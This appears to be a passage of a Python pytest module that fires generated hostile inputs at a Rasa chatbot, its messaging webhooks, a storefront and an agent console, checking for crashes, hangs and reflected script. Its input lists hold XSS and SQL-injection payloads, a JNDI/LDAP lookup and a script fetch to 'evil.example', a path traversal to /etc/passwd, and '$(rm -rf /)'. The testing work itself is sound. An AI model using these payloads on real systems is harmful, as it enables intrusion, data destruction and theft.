"""Hostile input on every public endpoint (README "Limits"), against one real stack: the Rasa server
(REST, socket.io, the four messaging webhooks signed as their platforms sign), the action server,
the storefront and the agent console on a demo shop, the platforms' APIs a capture server.

More than a thousand cases, generated from a fixed seed: empty and whitespace-only messages,
100 KB messages, control characters, invalid UTF-8 and lone surrogates, malformed JSON and wrong
types, huge metadata, HTML and script, SQL-looking order numbers, emoji floods, mixed scripts and
direction overrides, template and path injections; signed, forged and unsigned. Each runs through
a pool of 8 threads with a 30 s timeout (a timeout is a hang: a failure). Every request gets a
reply or a clear 4xx, never a 5xx; nothing comes back as HTML but the static pages, and those never
carry what a request sent. Afterwards the servers are up, a normal conversation still works, and
the case database is as it was: the orders untouched, no case or verification from garbage.
"""
from __future__ import annotations

import asyncio
import hashlib
import json
import random
import re
import socket
import subprocess
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Callable
from urllib.parse import parse_qsl, urlencode

import pytest
import requests
from sqlalchemy import create_engine, text as sql

from bot.i18n import render
from bot.limits import MAX_MESSAGE_CHARS, RASA_MAX_REQUEST_BYTES, clean_metadata, clean_sender, clean_text
from channels.signatures import slack_signature, twilio_signature
from tests.servers import PROJECT_ROOT, VENV_BIN, RasaStack, WebApp, demo_shop
from tests.standins.messaging import MessagingCapture
from tests.test_channels import (FB_PAGE_TOKEN, FB_SECRET, FB_VERIFY, PUBLIC_BASE_URL, SLACK_SECRET, SLACK_TOKEN,
                                 TELEGRAM_SECRET, TELEGRAM_TOKEN, TWILIO_NUMBER, TWILIO_SID, TWILIO_TOKEN, Messenger,
                                 Slack, Telegram, WhatsApp)

SEED = 20261201
TIMEOUT = 30  # seconds; no answer by then is a hang
WORKERS = 8
PASSWORD = "hostile-input agent password"
SECRET = "hostile-input-storefront-secret"
PLATFORMS = {"telegram": Telegram, "whatsapp": WhatsApp, "messenger": Messenger, "slack": Slack}

# ---- what shoppers (and others) send ----------------------------------------------------------------

WORDS = ["hello", "where", "is", "my", "order", "cancel", "refund", "return", "SH-10003", "hola", "pedido",
         "commande", "Bestellung", "заказ", "注文", "주문", "订单", "طلب", "sipariş", "zamówienie", "bestelling"]
EMPTY = ["", " ", "   \t\n  ", "\n" * 50, "\u3000\u3000", "\t", "\r\n\r\n"]
CONTROL = ["hel\x00lo", "\x00", "\x1b[2J\x1b[31mcancel SH-10003", "track\x08\x08\x08 SH-10001", "\x7f\x85\x9f hola",
           "hi\x0b\x0c\x1c\x1d\x1e\x1f", "bell\x07\x07\x07 where is my order"]
SURROGATES = ["\ud800", "hi \udfff there", "\ud83d order", "SH-10001 \udbff\udfff\ud800"]
HTML = ["<script>alert(1)</script>", '"><img src=x onerror=alert(document.cookie)>', "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>", "</script><script>fetch('//evil.example')</script>",
        "<b>hola</b> <a href='javascript:alert(1)'>pedido</a>", "&lt;&#x3C;script&gt; &amp;", "<!--", "]]><![CDATA[",
        "<style>*{display:none}</style>where is my order"]
SQL = ["SH-1' OR '1'='1", "track SH-1' OR '1'='1", "SH-10001'; DROP TABLE orders;--", 'SH-10001" OR ""="',
       "' UNION SELECT email, postcode FROM customers --", "SH-10001 OR 1=1", "%' OR 1=1 --",
       "SH-10001; DELETE FROM cases", "1; UPDATE orders SET status='cancelled'", "cancel SH-10003' --",
       "SH-10003'/**/OR/**/1=1#", "'; SELECT pg_sleep(30); --", "SH-10001' AND SLEEP(30) --"]
EMOJI = ["⭐", "👨‍👩‍👧‍👦" * 300, "🇪🇸🇩🇪🇯🇵🇧🇷" * 200, "👍🏽👍🏿👍🏻" * 250, "😡" * 40 + " refund now"]
MIXED = ["Hola مرحبا 你好 こんにちは привет 안녕 SH-10003", "\u202eSH-10001\u202c", "S\u200bH\u200b-\u200b10001",
         "Z̷̢̛̛a̴̡l̶̨g̵̢o̸̧" * 50, "ＳＨ－１０００１", "SH-١٠٠٠١", "שלום\u200f order SH-10002", "ǅ ǈ ǋ ß ẞ ﬁ",
         "\ufeffhello", "\ufffe\uffff"]
INJECTION = ["${jndi:ldap://evil.example/a}", "{{7*7}}", "{greeting}", "%s%s%s%n", "../../../../etc/passwd",
             "/restart", '/inform{"order_number":"SH-10001"}', '/inform{"choice":"' + "x" * 5000 + '"}',
             "/nonexistent_intent", "/", "//", '/greet{"language":5}', "9" * 5000, "1e309", "NaN", "null",
             "order@example.com' --", "\\x00\\u0000", "$(rm -rf /)", "`id`"]


def big_texts(rng: random.Random) -> list[str]:
    words = []
    while sum(len(w) + 1 for w in words) < 100_000:
        words.append(rng.choice(WORDS))
    return ["a" * 100_000, " ".join(words), "😀" * 25_000, "SH-10001 " * 11_112, "ж" * 100_000,
            "<script>" * 12_500]


def hostile_texts(rng: random.Random, count: int, big: bool = True) -> list[str]:
    """`count` messages: every kind, then random picks and mixtures of them."""
    kinds = [EMPTY, CONTROL, SURROGATES, HTML, SQL, EMOJI, MIXED, INJECTION] + ([big_texts(rng)] if big else [])
    texts = [t for kind in kinds for t in kind]
    rng.shuffle(texts)
    while len(texts) < count:
        kind = rng.choice(kinds)
        piece = rng.choice(kind)
        if rng.random() < 0.5 and kind is not kinds[-1]:  # a mixture: a hostile piece inside a real request
            piece = f"{rng.choice(WORDS)} {piece} {rng.choice(SQL + HTML + MIXED)}"
        texts.append(piece)
    return texts[:count]


def hostile_metadata(rng: random.Random) -> object:
    return rng.choice([
        None, {}, {"language": 5}, {"language": ["es"]}, {"locale": {"x": 1}}, {"language": "x" * 10_000},
        {"customData": "not an object"}, {"customData": {"language": None, "customer_token": 12}},
        {"customData": {"customer_token": "forged.token"}}, {"customer_token": "a.b.c"},
        {"huge": "x" * 300_000}, {"deep": json.loads("[" * 500 + "]" * 500)},
        {"customData": {"language": "es", "junk": ["y" * 1000] * 200}}, {"language": "\ud800"},
        {"language": "<script>"}, {"language": "es-ES"}, {"locale": "ja_JP"}])


# ---- calling and judging -----------------------------------------------------------------------------

@dataclass
class Answer:
    status: int
    content_type: str
    body: bytes

    def json(self):
        return json.loads(self.body)


class Hang(Exception):
    pass


def call(method: str, url: str, body: bytes | None = None, headers: dict | None = None,
         cookies: dict | None = None) -> Answer:
    try:
        r = requests.request(method, url, data=body, headers=headers or {}, cookies=cookies, timeout=TIMEOUT,
                             allow_redirects=False)
    except requests.Timeout as error:
        raise Hang(f"{method} {url}: no answer in {TIMEOUT} s") from error
    return Answer(r.status_code, r.headers.get("Content-Type", ""), r.content)


HTML_PAGES = {"/", "/login", "/dashboard"}  # static files, the same for everyone
MARKERS = ("alert(", "onerror=", "onload=alert", "javascript:alert")  # in what we send, never in our pages


def judge(answer: Answer, path: str, sent: bytes, allowed: set[int] | None = None) -> str | None:
    """None when the answer is acceptable; else what is wrong with it."""
    if answer.status >= 500:
        return f"{answer.status}: {answer.body[:300]!r}"
    if allowed is not None and answer.status not in allowed:
        return f"status {answer.status} not in {sorted(allowed)}: {answer.body[:300]!r}"
    kind = answer.content_type.split(";")[0].strip().lower()
    if "html" in kind:
        if path.split("?")[0] not in HTML_PAGES or answer.status != 200:
            return f"HTML answer ({answer.content_type}) to {path}: {answer.body[:200]!r}"
        for marker in MARKERS:  # what was sent never comes back in a page
            if marker.encode() in sent.lower() and marker.encode() in answer.body.lower():
                return f"page {path} carries {marker!r} from the request"
    if kind == "application/json" and answer.body:
        try:
            json.loads(answer.body)
        except ValueError:
            return f"malformed JSON answer: {answer.body[:200]!r}"
    return None


@dataclass
class Case:
    endpoint: str
    name: str
    run: Callable[[], str | None]  # None: fine; else the failure


def flood(cases: list[Case]) -> tuple[list[str], float]:
    def one(case: Case) -> str | None:
        try:
            problem = case.run()
        except Hang as error:
            problem = f"hang: {error}"
        except Exception as error:  # noqa: BLE001 - a reset connection, a bad answer: all failures
            problem = f"{type(error).__name__}: {error}"
        return f"[{case.endpoint}] {case.name}: {problem}" if problem else None

    start = time.monotonic()
    with ThreadPoolExecutor(WORKERS) as pool:
        problems = [p for p in pool.map(one, cases) if p]
    return problems, time.monotonic() - start


def expects_reply(text: str) -> bool:
    """Whether the bot must answer: real text after the gate (bot/limits.py), not a slash command."""
    cleaned = clean_text(text) or ""
    return bool(cleaned.strip()) and not cleaned.strip().startswith("/")


def raw_status(port: int, request_head: bytes) -> int:
    """Sends only a request's head (a body it announces but never sends) and reads the status."""
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT) as s:
        s.sendall(request_head)
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    return int(data.split(b" ", 2)[1])


# ---- one stack for the module -----------------------------------------------------------------------

@dataclass
class Stack:
    rasa: RasaStack
    console: WebApp
    storefront: WebApp
    captures: dict[str, MessagingCapture]
    cookies: dict[str, str]
    case_number: str
    database_url: str
    before: dict
    senders: set[str]


def snapshot(database_url: str) -> dict:
    engine = create_engine(database_url, future=True)
    state = {}
    with engine.connect() as conn:
        for table in ("customers", "products", "orders", "order_items", "shipments", "tracking_events", "payments",
                      "refunds", "returns", "return_items"):
            rows = conn.execute(sql(f"SELECT * FROM {table} ORDER BY 1")).all()
            state[table] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest())
        state["cases"] = {r.number: r for r in conn.execute(sql("SELECT * FROM cases")).all()}
        state["attempts"] = conn.execute(sql("SELECT * FROM verification_attempts")).all()
    engine.dispose()
    return state


@pytest.fixture(scope="module")
def stack(tmp_path_factory, trained_model):
    work = tmp_path_factory.mktemp("hostile")
    url = demo_shop(work)
    captures = {name: MessagingCapture() for name in PLATFORMS}
    env = {"DATABASE_URL": url, "CUSTOMER_TOKEN_SECRET": SECRET,
           "TELEGRAM_BOT_TOKEN": TELEGRAM_TOKEN, "TELEGRAM_SECRET_TOKEN": TELEGRAM_SECRET,
           "TELEGRAM_API_BASE": captures["telegram"].url,
           "TWILIO_ACCOUNT_SID": TWILIO_SID, "TWILIO_AUTH_TOKEN": TWILIO_TOKEN, "TWILIO_WHATSAPP_FROM": TWILIO_NUMBER,
           "PUBLIC_BASE_URL": PUBLIC_BASE_URL, "TWILIO_API_BASE": captures["whatsapp"].url,
           "MESSENGER_APP_SECRET": FB_SECRET, "MESSENGER_PAGE_ACCESS_TOKEN": FB_PAGE_TOKEN,
           "MESSENGER_VERIFY_TOKEN": FB_VERIFY, "MESSENGER_API_BASE": captures["messenger"].url,
           "SLACK_SIGNING_SECRET": SLACK_SECRET, "SLACK_BOT_TOKEN": SLACK_TOKEN, "SLACK_API_BASE": captures["slack"].url}
    subprocess.run([str(VENV_BIN / "python"), "-m", "bot", "agent", "add", "hostess", "--name", "Hostess",
                    "--language", "en", "--password-stdin"], input=PASSWORD + "\n", text=True, check=True,
                   cwd=PROJECT_ROOT, env={**env, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(PROJECT_ROOT)},
                   capture_output=True)
    rasa = RasaStack(trained_model, work, env).start()
    console = WebApp("console", work, {**env, "RASA_URL": rasa.url, "RASA_AUTH_TOKEN": rasa.token,
                                      "TRACKER_STORE_URL": rasa.env["TRACKER_STORE_URL"]}, "CONSOLE_PORT")
    storefront = WebApp("storefront", work, {**env, "RASA_PUBLIC_URL": rasa.url, "STOREFRONT_DEMO_LOGIN": "1"},
                        "STOREFRONT_PORT")
    try:
        login = requests.post(f"{console.url}/api/login", json={"username": "hostess", "password": PASSWORD})
        assert login.status_code == 200, login.text
        cookies = dict(login.cookies)
        # One real case, claimed, for the agent's hostile replies.
        sender = rasa.new_sender()
        rasa.send(sender, "I need to talk to a person please")
        queue = requests.get(f"{console.url}/api/queue", cookies=cookies).json()["cases"]
        number = next(c["number"] for c in queue if c["conversation_id"] == sender)
        assert requests.post(f"{console.url}/api/cases/{number}/claim", cookies=cookies).status_code == 200
        yield Stack(rasa, console, storefront, captures, cookies, number, url, snapshot(url), set())
    finally:
        storefront.stop()
        console.stop()
        rasa.stop()
        for capture in captures.values():
            capture.close()


# ---- the cases, per endpoint ------------------------------------------------------------------------

def rest_cases(stack: Stack, rng: random.Random) -> list[Case]:
    url = f"{stack.rasa.url}/webhooks/rest/webhook"
    cases = []

    def message(text: str, metadata: object) -> Case:
        sender = f"hostile-{uuid.UUID(int=rng.getrandbits(128)).hex}"
        stack.senders.add(sender)
        payload = {"sender": sender, "message": text, **({"metadata": metadata} if metadata is not None else {})}
        body = json.dumps(payload).encode()

        def run():
            answer = call("POST", url, body, {"Content-Type": "application/json"})
            if len(body) > RASA_MAX_REQUEST_BYTES:
                return judge(answer, "/webhooks/rest/webhook", body, {413})
            if not text.strip() or not (clean_text(text) or "").strip():
                return judge(answer, "/webhooks/rest/webhook", body, {400})
            problem = judge(answer, "/webhooks/rest/webhook", body, {200})
            if problem:
                return problem
            replies = answer.json()
            if not isinstance(replies, list) or not all(isinstance(r, dict) and r.get("recipient_id") == sender
                                                        for r in replies):
                return f"not a list of messages to {sender}: {replies!r:.300}"
            if expects_reply(text) and not replies:
                return "no reply"
            return None
        return Case("rest", f"message {text[:40]!r} ({len(text)} chars), metadata {str(metadata)[:40]}", run)

    for text in hostile_texts(rng, 190):
        cases.append(message(text, hostile_metadata(rng) if rng.random() < 0.4 else None))

    def raw(name: str, body: bytes, allowed: set[int], content_type: str = "application/json") -> Case:
        return Case("rest", name, lambda: judge(call("POST", url, body, {"Content-Type": content_type}),
                                                "/webhooks/rest/webhook", body, allowed))

    malformed = [b"", b"{", b"[]", b"null", b'"text"', b"123", b"true", b"[" * 5000 + b"]" * 5000,
                 b'{"sender": "x", "message": "\xff\xfe\xfa"}', b"\xff\xfe\x00\x00", b'{"sender": "x" "message": 1}',
                 b'{"sender": "a", "message": "hi"', "{\"sender\": \"ü\"}".encode("utf-16"), b"\x00" * 1000,
                 b"sender=x&message=hi", b'{"sender": NaN, "message": Infinity}', b"<xml>hi</xml>"]
    for body in malformed:
        cases.append(raw(f"malformed {body[:30]!r}", body, {400}))
    wrong = [{"message": "hi"}, {"sender": None, "message": "hi"}, {"sender": "", "message": "hi"},
             {"sender": ["a"], "message": "hi"}, {"sender": {"id": 1}, "message": "hi"}, {"sender": "x" * 129,
                                                                                        "message": "hi"},
             {"sender": "a/b/../../c", "message": "hi"}, {"sender": "a b", "message": "hi"},
             {"sender": "a\x00b", "message": "hi"}, {"sender": "<script>", "message": "hi"},
             {"sender": "ok-sender", "message": None}, {"sender": "ok-sender", "message": ["hi"]},
             {"sender": "ok-sender", "message": {"text": "hi"}}, {"sender": "ok-sender", "message": 42},
             {"sender": "ok-sender"}, {"sender": "ok-sender", "message": "hi", "metadata": "x"},
             {"sender": "ok-sender", "message": "hi", "metadata": [1, 2]}, {"sender": True, "message": "hi"}]
    for payload in wrong:
        cases.append(raw(f"wrong types {str(payload)[:50]}", json.dumps(payload).encode(), {400}))
    for platform in ("telegram_123456", "whatsapp_34600111222", "messenger_1234", "slack_D1_U1"):
        cases.append(raw(f"another platform's conversation {platform}",
                         json.dumps({"sender": platform, "message": "hola"}).encode(), {403}))
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/json; charset=klingon",
                         "multipart/form-data; boundary=x", ""):
        body = json.dumps({"sender": f"hostile-ct-{rng.getrandbits(32)}", "message": "hello"}).encode()
        cases.append(raw(f"content type {content_type!r}", body, {200}, content_type))
    for path in ("/webhooks/rest/", "/webhooks/rest/webhook?stream=maybe", "/webhooks/rest/webhook/..%2f..%2f",
                 "/webhooks/%ff%fe/webhook", "/webhooks/rest/webhook%00", "/<script>alert(1)</script>",
                 "/conversations/%ff/tracker", "/model/parse", "/status?token=%ff"):
        cases.append(Case("rest", f"GET {path}", lambda p=path: judge(
            call("GET", f"{stack.rasa.url}{p}", headers={"Accept": "text/html"}), p, p.encode())))
    for method in ("PUT", "DELETE", "PATCH", "GET"):
        cases.append(Case("rest", f"{method} webhook", lambda m=method: judge(
            call(m, url, b"{}", {"Accept": "text/html"}), "/webhooks/rest/webhook", b"", {405})))
    return cases


def messaging_cases(stack: Stack, rng: random.Random, name: str) -> list[Case]:
    cases = []
    cls = PLATFORMS[name]
    capture = stack.captures[name]

    def shopper():
        platform = cls(stack.rasa, capture)
        stack.senders.add(platform.sender)
        return platform

    def signed_text(text: str) -> Case:
        platform = shopper()
        if name == "whatsapp" and SURROGATE.search(text):  # what a form cannot carry as UTF-8: raw bytes
            sid = "SM" + "%032x" % rng.getrandbits(128)
            body = urlencode({"MessageSid": sid, "AccountSid": TWILIO_SID, "From": platform.recipient,
                              "To": TWILIO_NUMBER, "Body": text.encode("utf-8", "surrogatepass")}).encode()
            headers = platform.sign(body, {"Content-Type": "application/x-www-form-urlencoded"})
        else:
            body, headers = platform.message(text)
        if name == "whatsapp":  # Twilio signs blank fields too (the SDK helper drops them)
            headers = {**headers, "X-Twilio-Signature": twilio_signature(
                TWILIO_TOKEN, platform.public_url, parse_qsl(body.decode(), keep_blank_values=True))}

        def run():
            status, answer = _post(platform.webhook, body, headers)
            problem = judge(answer, f"/webhooks/{name}/webhook", body, {200})
            if problem:
                return problem
            wanted = expects_reply(text) and (name != "telegram" or not text.strip().startswith("/start"))
            if wanted and not capture.wait_for(1, timeout=TIMEOUT, where=lambda r: _reply_to(platform, r)):
                return "no reply reached the platform"
            return None
        return Case(name, f"signed message {text[:40]!r} ({len(text)} chars)", run)

    for text in hostile_texts(rng, 62):
        cases.append(signed_text(text))

    platform = shopper()
    bodies = [b"", b"{", b"[]", b"null", b"123", b"[" * 5000 + b"]" * 5000, b"\xff\xfe\xfa\x00", b"\x00" * 500,
              b"<xml/>", b"%%%&&==", b"payload=%7B", "{\"x\": \"\ud800\"}".encode("utf-8", "surrogatepass"),
              json.dumps({"deep": json.loads("[" * 900 + "]" * 900)}).encode()]
    bodies += _shaped_garbage(name, rng)
    for body in bodies:
        signed_body, headers = signed_any(platform, body)
        cases.append(Case(name, f"signed garbage {body[:30]!r}", lambda b=signed_body, h=headers: judge(
            _post(platform.webhook, b, h)[1], f"/webhooks/{name}/webhook", b, {200, 400})))
    for text in hostile_texts(rng, 14, big=False):
        body, headers = platform.message(text) if not (name == "whatsapp" and SURROGATE.search(text)) \
            else platform.message("hola")
        cases.append(Case(name, f"forged {text[:30]!r}", lambda b=body, h=platform.forged(body, headers): judge(
            _post(platform.webhook, b, h)[1], f"/webhooks/{name}/webhook", b, {403})))
        cases.append(Case(name, f"unsigned {text[:30]!r}", lambda b=body, h=platform.unsigned(headers): judge(
            _post(platform.webhook, b, h)[1], f"/webhooks/{name}/webhook", b, {401})))
    garbage_headers = [{"X-Telegram-Bot-Api-Secret-Token": "\xff\xfe"}, {"X-Twilio-Signature": "=" * 5000},
                       {"X-Hub-Signature-256": "sha256=" + "z" * 64}, {"X-Hub-Signature-256": "sha1=abc"},
                       {"X-Slack-Signature": "v0=00", "X-Slack-Request-Timestamp": "²³"},
                       {"X-Slack-Signature": "v0=00", "X-Slack-Request-Timestamp": "99999999999999999999999"},
                       {"X-Slack-Signature": "v0=00", "X-Slack-Request-Timestamp": "-1"},
                       {"Content-Type": "application/json; charset=klingon"}]
    for headers in garbage_headers:
        cases.append(Case(name, f"garbage headers {headers}", lambda h=headers: judge(
            _post(platform.webhook, b'{"a": 1}', h)[1], f"/webhooks/{name}/webhook", b"", {400, 401, 403})))
    for method in ("PUT", "DELETE"):
        cases.append(Case(name, f"{method}", lambda m=method: judge(
            call(m, platform.webhook, b"{}"), f"/webhooks/{name}/webhook", b"", {405})))
    if name == "messenger":
        for token in ("", "guess", "\xff", FB_VERIFY + "x", "<script>"):
            query = urlencode({"hub.mode": "subscribe", "hub.challenge": "<script>alert(1)</script>",
                               "hub.verify_token": token})
            cases.append(Case(name, f"subscription check {token!r}", lambda q=query: judge(
                call("GET", f"{platform.webhook}?{q}"), f"/webhooks/{name}/webhook", b"", {403})))
    return cases


SURROGATE = re.compile(r"[\ud800-\udfff]")


def signed_any(platform, body: bytes) -> tuple[bytes, dict]:
    """The platform's signature over any bytes (the SDKs used by test_channels.py decode the body first)."""
    try:
        return platform.signed(body)
    except UnicodeDecodeError:
        if platform.name == "whatsapp":  # refused as no form before any signature is checked
            return body, {"Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": "c2ln"}
        timestamp = str(int(time.time()))
        return body, {"Content-Type": "application/json", "X-Slack-Request-Timestamp": timestamp,
                      "X-Slack-Signature": slack_signature(SLACK_SECRET, timestamp, body)}


def _post(url: str, body: bytes, headers: dict) -> tuple[int, Answer]:
    answer = call("POST", url, body, {k: v.encode("latin-1", "replace").decode("latin-1") if isinstance(v, str)
                                      else v for k, v in headers.items()})
    return answer.status, answer


def _reply_to(platform, request) -> bool:
    try:
        found = platform.reply_of(request)
    except (AssertionError, KeyError, TypeError):
        return False
    return bool(found) and found[0] == platform.recipient


def _shaped_garbage(name: str, rng: random.Random) -> list[bytes]:
    """Bodies of the platform's shape with the wrong things in them."""
    n = rng.getrandbits(40)
    if name == "telegram":
        return [json.dumps(b).encode() for b in (
            {"update_id": "1", "message": {"chat": {"id": 1}, "text": "hi"}},
            {"update_id": 1, "message": {"chat": {"id": 10 ** 200}, "from": {"id": 1}, "text": "hola"}},
            {"update_id": 1, "message": {"chat": {"id": "1"}, "text": "hi"}},
            {"update_id": 1, "message": {"chat": {"id": n}, "from": {"language_code": ["es"]}, "text": "hola"}},
            {"update_id": 1, "message": {"chat": {"id": n}, "from": "me", "text": ["hi"]}},
            {"update_id": 1, "message": []}, {"update_id": 1, "callback_query": {"id": {}, "from": {"id": n},
                                                                                 "data": {"x": 1}}},
            {"update_id": 1, "callback_query": []}, {"update_id": True, "edited_message": "x"})]
    if name == "whatsapp":
        return [urlencode(f).encode() for f in (
            {"From": "whatsapp:+٣٤٦٠٠١١١٢٢٢", "Body": "hola"}, {"From": "whatsapp:+" + "9" * 500, "Body": "hola"},
            {"From": "whatsapp:+34600111222", "Body": "x" * 100_000}, {"From": "sms:+1", "Body": "hi"},
            {"From": "whatsapp:+34 600", "Body": "hola"}, {"MessageStatus": "<script>"}, {"Body": "hi"},
            {"From": "whatsapp:+34600111222&Body=x"})]
    if name == "messenger":
        return [json.dumps(b).encode() for b in (
            {"object": "page", "entry": "x"}, {"object": "page", "entry": [1, 2]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": {"x": 1}}, "message": {"text": "hi"}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "message": {"text": ["hi"],
                                                                                            "mid": {"x": 1}}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1" * 300}, "message": {"text": "hi"}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "locale": 5,
                                                         "message": {"text": "hola"}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "postback": {"payload": 5}}]}]},
            {"object": "instagram", "entry": []})]
    return [json.dumps(b).encode() for b in (
        {"type": "event_callback", "event": "x"}, {"type": 5}, {"type": "event_callback", "event": {"type": 5}},
        {"type": "event_callback", "event": {"type": "message", "channel_type": "im", "channel": "D1",
                                             "user": "U1", "text": 5}},
        {"type": "event_callback", "event": {"type": "message", "channel_type": "im", "channel": "D/../x",
                                             "user": "U 1", "text": "hola"}},
        {"type": "event_callback", "event": {"type": "message", "channel_type": "im", "channel": "D1",
                                             "user": "U1", "text": "hola", "locale": ["es"]}},
        {"type": "block_actions", "user": {"id": "U1"}, "channel": {"id": "D1"}, "actions": [{"value": 5}]},
        {"type": "url_verification", "challenge": {"x": "<script>"}})] + [
        urlencode({"payload": "{not json"}).encode(), urlencode({"payload": json.dumps({"type": []})}).encode()]


def socketio_cases(stack: Stack, rng: random.Random) -> list[tuple[str, object, str]]:
    """(label, user_uttered data, expectation): 'reply' or 'alive' (no reply needed; still connected)."""
    cases = []
    for text in hostile_texts(rng, 130):
        meta = hostile_metadata(rng) if rng.random() < 0.4 else None
        if isinstance(meta, dict) and "deep" in meta:  # python-socketio's client recurses per level itself
            meta = {"deep": json.loads("[" * 300 + "]" * 300)}
        data = {"message": text, **({"customData": meta} if meta is not None else {})}
        cases.append((f"message {text[:40]!r} ({len(text)} chars)", data, "reply" if expects_reply(text) else "alive"))
    for data in ("just a string", 42, ["a", "list"], None, {"message": None}, {"message": 5}, {"message": ["hi"]},
                 {"message": {"text": "hi"}}, {"message": "hi", "customData": "{not json"},
                 {"message": "hi", "customData": '{"language": 5}'}, {"message": "hi", "customData": [1]},
                 {"message": "hi", "session_id": {"x": 1}}, {"message": "hi", "session_id": "telegram_123"},
                 {"message": "hi", "session_id": "a/b/../c"}, {"message": "hi", "session_id": "x" * 500},
                 {"message": "\ud800" * 1000}, {"message": "x" * 600_000}, {}):
        cases.append((f"data {str(data)[:50]}", data, "alive"))
    return cases


async def raw_websocket(url: str, session: str, data: object, expectation: str,
                        frames: tuple = ()) -> str | None:
    """One socket.io conversation over a bare WebSocket (Engine.IO 4 framing): session_request,
    then `frames` as sent and the user_uttered; a reply, or after it a plain hello answered."""
    import websockets

    uri = url.replace("http://", "ws://") + "/socket.io/?EIO=4&transport=websocket"

    async def next_event(ws, name: str):
        while True:
            frame = await ws.recv()
            if frame == "2":
                await ws.send("3")
            elif isinstance(frame, str) and frame.startswith("42"):
                event = json.loads(frame[2:])
                if event[0] == name:
                    return event[1] if len(event) > 1 else None

    try:
        async with websockets.connect(uri, max_size=None, open_timeout=TIMEOUT) as ws:
            await asyncio.wait_for(ws.recv(), TIMEOUT)  # the open packet
            await ws.send("40")
            while not (await asyncio.wait_for(ws.recv(), TIMEOUT)).startswith("40"):
                pass
            await ws.send("42" + json.dumps(["session_request", {"session_id": session}]))
            await asyncio.wait_for(next_event(ws, "session_confirm"), TIMEOUT)
            for frame in frames:
                await ws.send(frame)
            payload = {"session_id": session, **data} if isinstance(data, dict) and "session_id" not in data else data
            await ws.send("42" + json.dumps(["user_uttered", payload]))
            if expectation != "reply":
                await ws.send("42" + json.dumps(["user_uttered", {"session_id": session, "message": "hello"}]))
            message = await asyncio.wait_for(next_event(ws, "bot_uttered"), TIMEOUT)
            if not isinstance(message, dict) or not ("text" in message or "quick_replies" in message
                                                     or "attachment" in message):
                return f"malformed bot_uttered {message!r:.200}"
    except asyncio.TimeoutError:
        return f"hang (nothing in {TIMEOUT} s; expected {expectation})"
    except Exception as error:  # noqa: BLE001 - a closed connection, a bad frame
        return f"{type(error).__name__}: {error}"
    return None


GARBAGE_FRAMES = ["42not json", "4", "99", "42[]", "42[5]", '42["user_uttered"', '42["nope", {}]', "", "4" * 5000,
                  '42["session_request", "x"]', '42["user_uttered", {"message": 5}]', "42" + "[" * 5000]


async def run_socketio(stack: Stack, cases: list[tuple[str, object, str]]) -> list[str]:
    import socketio

    semaphore = asyncio.Semaphore(WORKERS)
    problems = []
    probe_reply = render("greet", "en")

    async def one(index: int, label: str, data: object, expectation: str) -> None:
        async with semaphore:
            client = socketio.AsyncClient(reconnection=False)
            replies: asyncio.Queue = asyncio.Queue()
            confirmed = asyncio.Event()
            client.on("bot_uttered", lambda message: replies.put_nowait(message))
            client.on("session_confirm", lambda *_: confirmed.set())
            session = f"hostile-sio-{index}-{uuid.uuid4().hex[:8]}"
            stack.senders.add(session)
            if index % 2:  # the WebSocket transport, spoken frame by frame
                problem = await raw_websocket(stack.rasa.url, session, data, expectation)
                if problem:
                    problems.append(f"[socketio/websocket] {label}: {problem}")
                return
            # python-socketio's client over long polling: its WebSocket needs aiohttp >= 3.10 (ClientWSTimeout)
            transports = ["polling"]
            try:
                await asyncio.wait_for(client.connect(stack.rasa.url, socketio_path="/socket.io",
                                                      transports=transports, wait_timeout=TIMEOUT), TIMEOUT)
                await client.emit("session_request", {"session_id": session})
                await asyncio.wait_for(confirmed.wait(), TIMEOUT)
                payload = {"session_id": session, **data} if isinstance(data, dict) and "session_id" not in data \
                    else data
                await client.emit("user_uttered", payload)
                if expectation == "reply":
                    message = await asyncio.wait_for(replies.get(), TIMEOUT)
                    if not isinstance(message, dict) or not ("text" in message or "quick_replies" in message
                                                             or "attachment" in message):
                        problems.append(f"[socketio] {label}: malformed bot_uttered {message!r:.200}")
                    return
                await asyncio.sleep(0.3)
                if not client.connected:
                    problems.append(f"[socketio] {label}: disconnected")
                    return
                # Still there and still served: a plain hello in the same session is answered.
                await client.emit("user_uttered", {"session_id": session, "message": "hello"})
                while True:
                    message = await asyncio.wait_for(replies.get(), TIMEOUT)
                    if isinstance(message, dict) and message.get("text"):
                        return
            except asyncio.TimeoutError:
                problems.append(f"[socketio] {label}: hang (nothing in {TIMEOUT} s; expected {expectation})")
            except Exception as error:  # noqa: BLE001
                problems.append(f"[socketio] {label}: {type(error).__name__}: {error}")
            finally:
                if client.connected:
                    await client.disconnect()

    async def garbage(index: int, frame: str) -> None:
        async with semaphore:
            session = f"hostile-frame-{index}-{uuid.uuid4().hex[:8]}"
            stack.senders.add(session)
            problem = await raw_websocket(stack.rasa.url, session, {"message": "hello"}, "reply", (frame,))
            if problem and problem.startswith("ConnectionClosed"):  # dropping a broken client is fine...
                problem = await raw_websocket(stack.rasa.url, session, {"message": "hello"}, "reply")  # if served
            if problem:
                problems.append(f"[socketio/websocket] frame {frame[:30]!r} then hello: {problem}")

    await asyncio.gather(*(one(i, *case) for i, case in enumerate(cases)),
                         *(garbage(i, frame) for i, frame in enumerate(GARBAGE_FRAMES)))
    assert probe_reply  # the catalog greeting exists (the survival test compares with it)
    return problems


def storefront_cases(stack: Stack, rng: random.Random) -> list[Case]:
    base = stack.storefront.url
    cases = []
    for email in hostile_texts(rng, 70, big=False) + ["emily.carter@example.com' OR '1'='1", "%", "*",
                                                       "' OR 1=1 --", "EMILY.CARTER@EXAMPLE.COM\x00"]:
        body = json.dumps({"email": email}).encode()
